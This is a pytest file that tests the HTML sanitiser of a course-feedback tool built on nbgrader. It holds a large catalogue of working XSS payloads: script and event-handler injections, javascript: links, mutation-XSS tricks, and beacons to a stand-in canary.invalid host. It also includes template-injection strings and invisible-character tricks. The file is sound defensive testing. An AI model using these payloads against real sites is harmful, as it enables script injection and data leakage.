"""What a submission can put into its cells, outputs, names and messages: on the feedback page it is text, and no more.

Every payload tells on itself if it works: it sets ``window.pwned``, opens a dialog, sends a request to the canary host,
puts an element of its own onto the page or lays itself over ours.
"""

import base64
import contextlib
import html as standard_html
import re
import warnings
from collections import defaultdict
from pathlib import Path
from urllib.parse import quote

import nbformat
import pytest
from nbconvert.exporters import HTMLExporter
from traitlets.config import Config

import coursekit
from coursekit.config import configure
from coursekit.feedback import code, displays, equations, images, markdown, sanitise, text
from coursekit.feedback.budget import BudgetExceeded
from tests.classroom import ASSIGNMENT, copy_course
from tests.course import jupyterlab
from tests.feedback_pages import (
    PNG,
    Parsed,
    code_cell,
    display,
    exercises,
    graded_notebook,
    lost,
    open_gradebook,
    page_of,
    png,
    put_back,
    text_cell,
    verdicts,
)
from tests.patience import spends_at_most

CANARY = "http://canary.invalid"
RUN = "window.pwned=1"
DRAWING = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt src={CANARY}/x.js></sCrIpT>",
    f"<img src=x onerror={RUN}>",
    f'<img src="{CANARY}/beacon.png" alt="an ordinary picture">',
    f'<img srcset="{CANARY}/set.png 1x" src="data:image/png;base64,{PNG}" onload="{RUN}">',
    DRAWING,
    f"<svg><animate onbegin={RUN} attributeName=x></svg>",
    f'<svg><style><img src="</style><img src=x onerror={RUN}>">',
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</math>",
    f'<a href="javascript:{RUN}" id="exercise-1" name="main">press</a>',
    f'<a href="java&#x0A;script:{RUN}" class="attack">press</a>',
    f'<a href="data:text/html,<script>{RUN}</script>" target="_top">press</a>',
    f"<a href=' &#x01;javascript:{RUN}' autofocus onfocus={RUN} tabindex=1>press</a>",
    f"<iframe src='javascript:parent.{RUN}'></iframe><iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data='{CANARY}/o.swf'></object><embed src='{CANARY}/e.swf'>",
    f'<meta http-equiv="refresh" content="0;url={CANARY}/refresh">',
    f'<base href="{CANARY}/base/"><link rel=stylesheet href="{CANARY}/l.css"><link rel=prefetch href="{CANARY}/p">',
    f"<style>@import '{CANARY}/i.css'; * {{ display: none !important; background: url({CANARY}/b.png) }}</style>",
    '<div style="position:fixed;inset:0;z-index:9999;background:#fff" class="card exercise right">100 of 100</div>',
    f"<form action='{CANARY}/form'><input autofocus onfocus={RUN} name=main><button>Log in</button></form>",
    f"<body onload={RUN} style='display:none'><html lang=xx><head><title>pwned</title></head>",
    f"</div></div></section></main></body></html><script>{RUN}</script><h1 id=overview>pwned heading</h1>",
    f"</pre></code></span></p></li></ul></table><img src=x onerror={RUN}>",
    f"<video autoplay poster={CANARY}/v.png><source onerror={RUN} src={CANARY}/v.mp4></video>"
    f"<audio src={CANARY}/a.mp3 autoplay>",
    f"<template><script>{RUN}</script></template><noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<textarea></textarea><img src=x onerror={RUN}></textarea><xmp><img src=x onerror={RUN}></xmp><plaintext>",
    f"<!--><img src=x onerror={RUN}>--><![CDATA[<img src=x onerror={RUN}>]]><?php <img src=x onerror={RUN}>?>",
    f"<details open ontoggle={RUN}><summary onclick={RUN}>open me</summary></details>",
    f"<marquee onstart={RUN}>x</marquee><isindex type=image src=1 onerror={RUN}><keygen autofocus onfocus={RUN}>",
    f"<dialog open>pwned dialog</dialog><button popovertarget=main onclick={RUN}>x</button><div popover>x</div>",
    f"<img src='data:image/svg+xml,{quote(DRAWING)}'><img src='data:text/html,x'><img src='file:///etc/passwd'>",
    f"![x]({CANARY}/markdown.png) [press](javascript:{RUN}) ![y](javascript:{RUN}) <{CANARY}/auto>",
    f"[press]: javascript:{RUN}\n\n[press] [x](<javascript:{RUN}> 'title\" onmouseover=\"{RUN}')",
    rf"$\text{{<img src=x onerror={RUN}>}}$ $\href{{javascript:{RUN}}}{{x}}$ $\style{{position:fixed}}{{x}}$",
    rf"$$\text{{</math><script>{RUN}</script>}} \class{{card}}{{x}} \color{{white}}{{y}} \cssId{{main}}{{z}}$$",
    f'<x-equation tex="\\text{{&lt;script&gt;{RUN}&lt;/script&gt;}}" block onclick={RUN}>',
    "{{ config }} {% include '/etc/passwd' %} {{ ''.__class__.__mro__ }} {# x #}",
    "\x1b]8;;javascript:window.pwned=1\x07link\x1b]8;;\x07 \x1b[31mred\x1b[0m \x1b]0;title\x07 \x07\x00\x9b31m",
    "admin\u202egnp.exe \u2066isolate\u2069 zero\u200bwidth\ufeff\u00ad \U000e0041 \ud800 \ufffe \u2028 line",
    "### BEGIN HIDDEN TESTS\nprint('mine')\n### END HIDDEN TESTS\n### BEGIN HIDDEN TESTS",
)  # fmt: skip


def everywhere(payload: str):
    """Cells that carry the payload in every way in which a cell can carry a text."""
    mixed = {"evalue": payload, "ename": payload, "traceback": [payload, f"\x1b[0;31m{payload}\x1b[0m"]}
    return [
        text_cell(payload),
        text_cell(f"# {payload}\n\n* {payload}\n\n> {payload}\n\n| a | b |\n|:-:|--:|\n| {payload} | x |"),
        text_cell(f"```html\n{payload}\n```\n\n<details><summary>{payload}</summary>\n\n{payload}\n\n</details>"),
        {"id": payload, "cell_type": "raw", "metadata": {"tags": [payload], "format": payload}, "source": payload},
        code_cell(
            f"# {payload}\ndef f():\n    '''{payload}'''\n%%html\n{payload}",
            {"output_type": "stream", "name": "stdout", "text": payload},
            {"output_type": "stream", "name": payload, "text": [payload, payload]},
            display(text_html=payload, text_plain=payload),
            display(text_html=[f"<table><tr><td>{payload}</td></tr></table>"]),
            display(text_markdown=payload),
            display(text_latex=payload),
            display(**{"image_svg+xml": payload}),
            display(application_javascript=payload),
            display(image_png=payload, text_html=payload),
            display(**{payload: payload}),
            {"output_type": "display_data", "data": {"image/png": PNG}, "metadata": {"image/png": {"alt": payload}}},
            {"output_type": "error"} | mixed,
            {"output_type": payload} | mixed,
            cell_id=payload,
        ),
    ]


def hostile_notebook(course):
    """A graded notebook with every payload in every place."""

    def change(notebook):
        cells = notebook["cells"]
        answer = next(cell for cell in cells if cell["id"] == "linear-forward")
        answer["source"] = "\n".join(f"# {payload}" for payload in PAYLOADS)
        for payload in PAYLOADS:
            cells += everywhere(payload)

    return graded_notebook(course, change)


def hostile_verdicts():
    """Verdicts that quote the payloads, in names, reasons and notes, beside what no grader would write."""
    joined = "\n".join(PAYLOADS)
    changes = {}
    for row, payload in zip(exercises(), PAYLOADS, strict=False):
        changes |= lost(row.grade_id, {check.name: joined for check in row.checks}, summary=joined)
        entry = changes[row.grade_id]
        entry |= {"function": payload, "look": joined, "calls": list(PAYLOADS), "follows": list(PAYLOADS)}
        entry |= {"mistake": {"name": payload, "hint": joined}, "number": 1}
        entry["checks"][0] |= {"name": payload, "where": joined}
    odd = [None, 3, {"grade_id": 7}, {"grade_id": "linear-forward-x", "checks": "x", "points": float("nan")}]
    return verdicts(changes, notes=[*PAYLOADS, 3, None], exercises=[*odd, *verdicts(changes)["exercises"]])


@pytest.fixture(scope="module")
def hostile_page(tmp_path_factory):
    """The path of the page of a submission with every payload in every place."""
    course = copy_course(tmp_path_factory.mktemp("hostile") / "course")
    open_gradebook(course)

    def marks(book, entry):
        book.update_or_create_student("mallory", first_name=PAYLOADS[0], last_name=PAYLOADS[-2].replace("\ud800", ""))
        comment = book.find_comment("linear-forward", ASSIGNMENT, ASSIGNMENT, "mallory")
        comment.manual_comment = "\n\n".join(PAYLOADS).encode("utf-8", "replace").decode()

    put_back(course, "mallory", hostile_verdicts(), hostile_notebook(course), marks)
    page_of(course, "mallory")
    return course.feedback(ASSIGNMENT, "mallory") / f"{ASSIGNMENT}.html"


@pytest.fixture(scope="module")
def browser():
    executable = jupyterlab.find_browser()
    if executable is None:
        pytest.skip("no Chromium on PATH: nothing was looked at in a browser")
    with jupyterlab.browser(executable) as started:
        yield started


def test_there_are_enough_payloads_and_they_do_work_without_us(browser):
    """The catalogue can fail: on a page that does not sanitise, scripts run and requests are sent."""
    page, asked = browser.new_page(), []
    page.on("request", lambda request: asked.append(request.url))
    page.set_content("".join(PAYLOADS[2:4]), wait_until="load")
    page.wait_for_function("window.pwned === 1")
    page.close()
    assert any(url.startswith(CANARY) for url in asked)
    assert len(set(PAYLOADS)) >= 40


def test_no_payload_runs_loads_asks_or_moves_anything(browser, hostile_page):
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    asked, dialogs, popups = [], [], []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("popup", lambda popup: popups.append(popup.url))
    page.goto(hostile_page.as_uri(), wait_until="load")
    page.evaluate("() => document.querySelectorAll('summary').forEach(element => element.click())")
    page.evaluate(
        "() => document.querySelectorAll('a, td, img, div').forEach(e => e.dispatchEvent(new Event('focus')))"
    )
    assert page.evaluate("() => window.pwned") is None
    outside = [url for url in asked if not url.startswith("data:image/") and url != hostile_page.as_uri()]
    assert (outside, dialogs, popups) == ([], [], [])
    assert page.url == hostile_page.as_uri()
    ours = page.evaluate(
        """() => ({
            heads: document.querySelectorAll('h1').length,
            mains: document.querySelectorAll('main, nav, header, footer').length,
            ids: [...document.querySelectorAll('[id]')].map(element => element.id),
            floating: [...document.querySelectorAll('body *')].filter(element =>
                ['fixed', 'sticky', 'absolute'].includes(getComputedStyle(element).position)
                && !element.matches('.skip')).length,
            strangers: [...new Set([...document.querySelectorAll('*')].map(element => element.localName))],
            handlers: [...document.querySelectorAll('*')].filter(element =>
                [...element.attributes].some(attribute => /^on|^style$|^srcset$/.test(attribute.name))).length,
            links: [...document.querySelectorAll('a')].map(element => element.getAttribute('href')),
        })"""
    )
    page.close()
    assert (ours["heads"], ours["mains"], ours["floating"], ours["handlers"]) == (1, 4, 0, 0)
    assert len(ours["ids"]) == len(set(ours["ids"]))
    assert all(re.fullmatch(r"main|file|overview|exercises|notebook|[a-z]+-name|(exercise|cell)-\d+(-name)?", name)
               for name in ours["ids"])  # fmt: skip
    active = "script iframe object embed link base form input dialog button video audio textarea template"
    assert not set(ours["strangers"]) & set(active.split())
    assert all(re.match(r"#|https?://", link) for link in ours["links"])


def test_the_first_wall_stands_without_the_second(browser, hostile_page):
    """The same page without its Content-Security-Policy: the sanitised HTML alone runs and loads nothing."""
    html = hostile_page.read_text(encoding="utf-8")
    bare, found = re.subn(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", html)
    page, asked = browser.new_page(), []
    page.on("request", lambda request: asked.append(request.url))
    page.set_content(bare, wait_until="load")
    assert (found, page.evaluate("() => window.pwned")) == (1, None)
    page.close()
    assert [url for url in asked if not url.startswith(("data:image/", "about:"))] == []


def test_the_second_wall_stands_without_the_first(browser, hostile_page, tmp_path):
    """Raw payloads behind the page's policy: no script runs, and nothing is asked of anybody."""
    policy = re.search(r"<meta http-equiv=\"Content-Security-Policy\"[^>]*>", hostile_page.read_text(encoding="utf-8"))
    raw = "".join(payload for payload in PAYLOADS if "refresh" not in payload and payload.isprintable())
    path = tmp_path / "raw.html"
    page, sent = browser.new_page(), []
    page.route(f"{CANARY}/**", lambda route: (sent.append(route.request.url), route.abort()))
    seen = []
    for policies in ("", policy[0]):
        path.write_text(f"<!DOCTYPE html><head>{policies}</head><body>{raw}", encoding="utf-8")
        page.goto(path.as_uri(), wait_until="load")
        seen.append((page.evaluate("() => window.pwned"), bool(sent)))
        sent.clear()
    page.close()
    assert seen == [(1, True), (None, False)]


def test_nothing_invisible_is_left_on_the_page(hostile_page):
    html = hostile_page.read_text(encoding="utf-8")
    assert not re.search(
        "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u202a-\u202e\u2060-\u2069\ufeff\u00ad\U000e0000-\U000e007f]", html
    )
    assert "admin⟨U+202E⟩gnp.exe" in html


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_what_is_left_of_html_is_from_the_list(payload):
    """Each payload alone, so that none of them is saved by what another left open."""
    allowed = sanitise._INLINE | sanitise._BLOCKS | {"br", "hr", "img", "h3", "h4", "h5", "code"} | equations._ELEMENTS
    for html in (sanitise.clean(payload), markdown.html(payload, sanitise.Outline(2))):
        parsed = Parsed(html)
        assert {tag for tag, _ in parsed.elements} <= allowed
        names = {name for _, attributes in parsed.elements for name in attributes}
        assert names <= {"href", "rel", "target", "class", "tabindex", "role", "aria-label", "src", "alt", "width",
                         "display", "mathvariant", "stretchy", "colspan", "rowspan", "scope", "start"}  # fmt: skip
        assert {a["src"][:22] for a in parsed.all("img")} <= {"data:image/png;base64,"}
        assert html.count("<div") == html.count("</div>")
        assert html.count("<p") - html.count("<pre") == html.count("</p>")


@pytest.mark.parametrize(
    "link",
    ["javascript:x", "JaVaScRiPt:x", "\tjavascript:x", "vbscript:x", "data:text/html,x", "//canary.invalid", "file:///x",
     "http:javascript:x", "blob:x", "intent://x", "https:\\\\x", "x.html", "#main", "javascript&colon;x"],
)  # fmt: skip
def test_only_whole_addresses_are_links(link):
    assert "href" not in sanitise.clean(f'<a href="{standard_html.escape(link)}">press</a>')


def test_a_link_tells_nobody_where_it_was_pressed():
    assert 'rel="noopener noreferrer nofollow"' in sanitise.clean('<a href="https://example.org/">there</a>')


@pytest.mark.parametrize(
    ("data", "why"),
    [
        ("PHN2Zz48L3N2Zz4=", "no PNG, JPEG or GIF"),
        ("R0lGODlhAQABAAAAACw=", "no PNG, JPEG or GIF"),
        ("not base64 <script>", "damaged"),
        (base64.b64encode(png(60_000, 60_000)).decode(), "too large"),
        ("iVBORw0KGgo=", "no PNG, JPEG or GIF"),
    ],
)
def test_only_pictures_are_shown_as_pictures(data, why):
    shown = images.from_base64(data, "alt")
    assert why in shown
    assert "<img" not in shown


def test_a_picture_is_written_anew_and_its_description_is_text():
    shown = images.from_base64(f" {PNG[:20]}\n{PNG[20:]}", '"><script>x</script>')
    assert Parsed(shown).all("img")[0]["alt"] == '"><script>x</script>'
    assert PNG in shown
    assert "<script" not in shown


# Each of these takes some parsers time or memory that grows with its square.
@pytest.mark.parametrize(
    "piece",
    ["<p><b id={}>", "<a href='", "<b>", "</b>", "<!--", "<![CDATA[", "<![x[", "<style>", "<!", "<", "&", "&#", "[",
     "![", "](", "*a ", "_a_", "`", "> ", "- ", "<table><tr><td>", "$", "$$", "\\begin{a}", "{", "\\frac", "\x1b[",
     "\x1b]8;;", "\r", "a\r", "'", '"""', "f'{", "(", "\\", "|", "<x ", "<x a='", "1 ", "\n", " ", "**", "#", "é"],
)  # fmt: skip
def test_no_text_takes_long(piece):
    count = 200_000 // len(piece)
    long = "".join(piece.replace("{}", str(index)) for index in range(count))
    with spends_at_most(5):
        sizes = [
            len(sanitise.clean(long)),
            len(markdown.html(long[: markdown.MAX_CHARS])),
            len(equations.mathml(long)),
            len(code.highlighted(long[: code.MAX_COLOURED_CHARS])),
            len("".join(displays.render([display(text_plain=long), display(text_html=long)], "cell [1]"))),
            len(text.name(long)),
        ]
    assert max(sizes) < 6 << 20


_NAMED = ("script", "style", "math", "svg", "title", "table", "td", "li", "a", "p", "h1", "summary", "x-equation")
PARTS = [
    *("<", "</", '"', "'", ">", "<!--", "-->", "<![CDATA[", "]]>", "<?", "<!", "&", "&#", "&#1", "&lt", ";", "="),
    *(written for name in _NAMED for written in (f"<{name}", f"</{name}", f"<{name}>", f"</{name}>", f"<{name}/>")),
    # Quotes that begin in one tag and end in the next.
    *('</a ">"', "</a '>'", '</a ">', '<a ">"', "<a ='", "<a b=\"' c", "<style x='>'", "'</a", '"</a "><math/>'),
    *("</a<", "<a b =", "</script x='>", "<td style='text-align: ", "<x-equation tex=a>", "<b></i>", "a= "),
    # Letters that are taken for others where case does not count; long names.
    *("<\u017f", '</\u017f ">"', "<\u212a", "<" + "b" * 50, "</" + "b" * 50),
]


@pytest.mark.parametrize("part", PARTS)
def test_no_html_is_read_twice(part):
    """Sixty thousand characters take a twentieth of a second; with the square of their number they take five."""
    with spends_at_most(1.5), contextlib.suppress(BudgetExceeded):
        sanitise.clean(part * (60_000 // len(part)))


@pytest.mark.parametrize("end", ["</a", '</a ">', "</p x='", "</script"])
def test_a_tag_without_an_end_is_text(end):
    """An end tag as well as any other."""
    assert sanitise.clean(f"<b>x</b>{end}") == f"<b>x</b>{standard_html.escape(end)}"


NUMBERS = {
    "&#65;": "A",
    f"&#{'0' * 5_000}65;": "A",
    f"&#{'9' * 5_000};": "\N{REPLACEMENT CHARACTER}",
    f"&#{'9' * 5_000}": "\N{REPLACEMENT CHARACTER}",
    f"&#x{'9' * 5_000};": "\N{REPLACEMENT CHARACTER}",
    f"&#{'0' * 5_000};": "\N{REPLACEMENT CHARACTER}",
    "&#\u0661;": "&amp;#\u0661;",
}


@pytest.mark.parametrize("number", NUMBERS, ids=range(len(NUMBERS)))
def test_a_character_may_be_a_number_of_any_length(number):
    """Python refuses to read one of more than 4,300 digits: one reference made the whole page impossible."""
    read = NUMBERS[number]
    assert sanitise.clean(number) == read
    assert sanitise.clean(f'<a href="https://x/{number}">y</a>').startswith(f'<a href="https://x/{read}"')
    assert read in markdown.html(f"<div>\n{number}\n</div>")
    assert markdown.html(f"{number} [x]({number[:2000]}) ![{number[:2000]}](x)")
    assert markdown.html(f"$x_{number[:1000]}$")
    for kind in ("text/html", "text/markdown", "text/latex", "text/plain"):
        assert displays.render([{"output_type": "display_data", "data": {kind: number}, "metadata": {}}], "cell [1]")


def test_references_are_read_in_one_place():
    package = Path(coursekit.__file__).parent
    found = [
        path.relative_to(package).as_posix()
        for path in package.rglob("*.py")
        if "unescape" in path.read_text(encoding="utf-8").replace("text.unescaped", "") and path.parent.name != "checks"
    ]
    assert found == ["feedback/text.py"]


def test_a_flood_of_outputs_is_cut_and_that_is_said(tmp_path):
    many = displays.render([{"output_type": "stream", "name": "stdout", "text": "x" * 90_000}] * 5_000, "cell [1]")
    assert "too many" in many[-1]
    assert sum(map(len, many)) < 2 << 20
    assert "characters are left out here" in many[0]


@pytest.mark.parametrize("said", [None, 3, ["a", 3], {"a": "b"}, True])
def test_outputs_of_the_wrong_type_are_no_accident(said):
    data = {"text/html": said, "image/png": said, "text/plain": said, "text/latex": said}
    outputs = [
        {"output_type": "display_data", "data": data, "metadata": said},
        {"output_type": "display_data", "data": said},
        {"output_type": "stream", "text": said},
        {"output_type": "error", "ename": said, "evalue": said, "traceback": said},
        said,
        {},
    ]
    assert isinstance(displays.render(outputs, "cell [1]"), list)
    assert displays.render(said, "cell [1]") == []


def test_the_markers_of_hidden_tests_in_a_students_cell_are_their_text(tmp_path):
    """Stock nbgrader refuses to make the page of somebody who wrote them."""
    source = PAYLOADS[-1]
    assert "print(&#x27;mine&#x27;)" in code.highlighted(source) or "mine" in Parsed(code.highlighted(source)).text


def test_no_script_of_a_submission_reaches_the_formgraders_own_view(course):
    """There a person grades, in a page that nbgrader's own template makes out of the autograded notebook."""
    from nbgrader.server_extensions.formgrader import handlers

    config = Config()
    configure(config, course.root)
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    shown = [
        {"text/html": "<script>alert('out')</script><b onclick=alert('out')>b</b>"},
        {"text/markdown": "<script>alert('out')</script>"},
        {"text/latex": "$x$<script>alert('out')</script>"},
    ]
    written = (
        "Safe and sound.\n\n<script>alert('in')</script><img src=x onerror=alert('in')> [x](javascript:alert('in'))"
    )
    outputs = [nbformat.v4.new_output("display_data", data=data) for data in shown]
    cells = [nbformat.v4.new_markdown_cell(written), nbformat.v4.new_code_cell("1", outputs=outputs)]
    notebook = nbformat.v4.new_notebook(cells=cells)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        html, _ = HTMLExporter(config=config).from_notebook_node(notebook, resources=defaultdict(str, index=0, total=1))
    live = re.sub(r"&lt;.*?&gt;", "", html)
    assert "Safe and sound." in html
    assert not re.search(r"<script[^>]*>\s*alert|on\w+=[^>]*alert|href=\"javascript", live)


SLOW = {
    "equations that never end": lambda: markdown.html("$$a\n" * 5000),
    "a table whose rows are filled up": lambda: markdown.html("|a" * 500 + "|\n" + "|-" * 500 + "|\n" + "|a\n" * 5000),
    "a line of dots": lambda: code.highlighted("." * 8000),
    "a line of names and dots": lambda: code.highlighted("\u00e9." * 4000),
}


@pytest.mark.parametrize("name", SLOW)
def test_one_cell_takes_no_seconds(name):
    """There may be fifty such cells on a page, and a class waits for it."""
    with spends_at_most(2):
        SLOW[name]()
